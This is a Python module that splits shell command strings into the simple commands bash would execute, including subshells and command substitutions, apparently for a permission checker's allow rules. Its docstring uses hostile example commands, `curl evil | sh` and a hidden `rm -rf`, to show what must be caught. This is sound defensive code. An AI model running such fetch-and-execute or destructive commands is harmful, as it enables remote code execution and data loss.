"""Split a shell command into the simple commands bash would run, so each can be checked on its own.

`pytest && curl evil | sh` is three commands; `echo "a && b"` is one; `echo $(rm -rf x)` runs
`rm -rf x` too, and so does `echo "$(rm -rf x)"`, but not `echo '$(rm -rf x)'`. shlex alone cannot
tell those apart (posix mode drops the quotes, so `echo ";"` and `echo ;` lex alike, and it does not
see command substitution), so a small scanner finds the structure: quotes, escapes, operators,
subshells, `$(...)`, backticks, process substitution. Each command's words then come from shlex.
What the scanner cannot follow (unbalanced quotes, here-documents, loops, function definitions) is
Unparsable: no allow rule can match it.
"""
from __future__ import annotations

import os
import re
import shlex

# Words that may stand before a command without being it: `if pytest; then ...; fi`, `! grep x`, `{ a; }`.
RESERVED = {"{", "}", "!", "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "time"}
# Compound commands whose parts this splitter does not follow.
UNFOLLOWED = {"for", "case", "select", "function", "coproc"}
ASSIGNMENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*\+?=")
_OPERATORS = ("&&", "||", "|&", ";;", ";&", ";", "|", "&", "\n")
# What is left after a group such as `(cd x && pytest) 2>&1`: descriptor copies, which run nothing.
_FD_COPIES = re.compile(r"(\s*\d*[<>]&[-\d]+)*\s*")


class Unparsable(ValueError):
    """Shell text this splitter cannot follow; the message says what."""


def split_command(command: str) -> list[list[str]]:
    """The words of each simple command in `command`, in order; Unparsable when it cannot be followed."""
    splitter = _Splitter(command)
    try:
        splitter.commands(close="")
    except RecursionError:
        raise Unparsable("substitutions nest too deeply") from None
    return splitter.parts


def is_assignment(word: str) -> bool:
    return bool(ASSIGNMENT.match(word))


def command_name(word: str) -> str:
    """`/usr/bin/rm` runs rm."""
    return os.path.basename(word) or word


class _Splitter:
    def __init__(self, text: str) -> None:
        self.s = text.replace("\\\n", "")  # a line continuation joins the lines, as in bash
        self.i = 0
        self.parts: list[list[str]] = []

    def at(self, k: int = 0) -> str:
        return self.s[self.i + k] if self.i + k < len(self.s) else ""

    def starts(self, text: str) -> bool:
        return self.s.startswith(text, self.i)

    # ---- command lists --------------------------------------------------------------------
    def commands(self, close: str) -> None:
        """Scan commands up to `close` (`)` or a backtick; "" for the end of the text)."""
        buf: list[str] = []
        slot, after_group = len(self.parts), False
        while True:
            c = self.at()
            if c == close or (c == "" and not close):
                self.i += len(c)
                break
            if c == "":
                raise Unparsable(f"a {close!r} is missing")
            if c in ";&|\n" and not self.starts("&>"):
                self.end(buf, slot, after_group)
                self.i += len(next(op for op in _OPERATORS if self.starts(op)))
                slot, buf, after_group = len(self.parts), [], False
            elif c == "(" and not "".join(buf).strip():
                self.i += 1
                self.commands(")")  # a subshell: its commands are parts of their own
                slot, after_group = len(self.parts), True
            elif c in "()":
                raise Unparsable(f"{c!r} where bash expects a command (a function definition or a stray parenthesis)")
            elif c == "#" and (self.i == 0 or self.s[self.i - 1] in " \t\n;&|("):
                while self.at() not in ("", "\n"):
                    self.i += 1
            else:
                buf.append(self.word_piece(quoted=False))
        self.end(buf, slot, after_group)

    def end(self, buf: list[str], slot: int, after_group: bool) -> None:
        text = "".join(buf)
        if after_group and _FD_COPIES.fullmatch(text):
            return
        try:
            words = shlex.split(text)
        except ValueError as exc:
            raise Unparsable(f"cannot split {text.strip()!r} into words: {exc}") from None
        while words and words[0] in RESERVED:
            words = words[1:]
        if words and words[0] in UNFOLLOWED:
            raise Unparsable(f"`{words[0]}` compound commands are not followed")
        if words:
            self.parts.insert(slot, words)

    # ---- words ------------------------------------------------------------------------------
    def word_piece(self, quoted: bool) -> str:
        """The next piece of a word, with each nested command replaced by a placeholder such as `$(…)`."""
        c = self.at()
        if c == "\\":
            piece = self.s[self.i:self.i + 2]
            self.i += len(piece)
            return piece
        if c == "$" and self.at(1) == "(":
            return self.dollar_paren()
        if c == "$" and self.at(1) == "{":
            return self.braced()
        if c == "`":
            self.i += 1
            self.commands("`")
            return "`…`"
        if quoted:
            self.i += 1
            return c
        if c == "'" or (c == "$" and self.at(1) == "'"):
            return self.single_quoted()
        if c == '"':
            return self.double_quoted()
        if c in "<>" and self.at(1) == "(":
            self.i += 2
            self.commands(")")
            return f"{c}(…)"
        if self.starts("<<") and not self.starts("<<<"):
            raise Unparsable("here-documents are not followed")
        # Redirections such as `> out` and `2>&1` stay part of their command; `>&` and `>|` are not operators.
        size = 2 if c in "<>" and self.at(1) in ("&", "|") else 1
        self.i += size
        return self.s[self.i - size:self.i]

    def single_quoted(self) -> str:
        start = self.i
        ansi = self.at() == "$"  # $'...' knows backslash escapes
        self.i += 2 if ansi else 1
        while (c := self.at()) != "'":
            if c == "":
                raise Unparsable("a closing ' is missing")
            self.i += 2 if ansi and c == "\\" else 1
        self.i += 1
        if not ansi:
            return self.s[start:self.i]
        # shlex knows no $'...': decode it (`$'\x72m'` is rm) and quote the result plainly.
        body = self.s[start + 2:self.i - 1]
        try:
            body = body.encode("latin-1", "backslashreplace").decode("unicode_escape")
        except UnicodeDecodeError:
            pass
        return shlex.quote(body)

    def double_quoted(self) -> str:
        pieces = ['"']
        self.i += 1
        while self.at() != '"':
            if self.at() == "":
                raise Unparsable('a closing " is missing')
            pieces.append(self.word_piece(quoted=True))
        self.i += 1
        return "".join(pieces) + '"'

    def dollar_paren(self) -> str:
        if self.starts("$(("):
            return self.arithmetic()
        self.i += 2
        self.commands(")")
        return "$(…)"

    def arithmetic(self) -> str:
        """`$((...))`: no command, unless a substitution hides inside."""
        start, depth = self.i, 0
        self.i += 1
        while True:
            c = self.at()
            if c == "":
                raise Unparsable("a closing )) is missing")
            if c == "`" or (c == "$" and self.at(1) in ("(", "{")):
                self.word_piece(quoted=True)
                continue
            depth += {"(": 1, ")": -1}.get(c, 0)
            self.i += 1
            if depth == 0:
                return self.s[start:self.i]

    def braced(self) -> str:
        """`${NAME...}`: a parameter, whose default may hold quotes and substitutions."""
        start = self.i
        self.i += 2
        while self.at() != "}":
            if self.at() == "":
                raise Unparsable("a closing } is missing")
            c = self.at()
            if c == "'":
                self.single_quoted()
            elif c == '"':
                self.double_quoted()
            else:
                self.word_piece(quoted=True)
        self.i += 1
        return self.s[start:self.i]
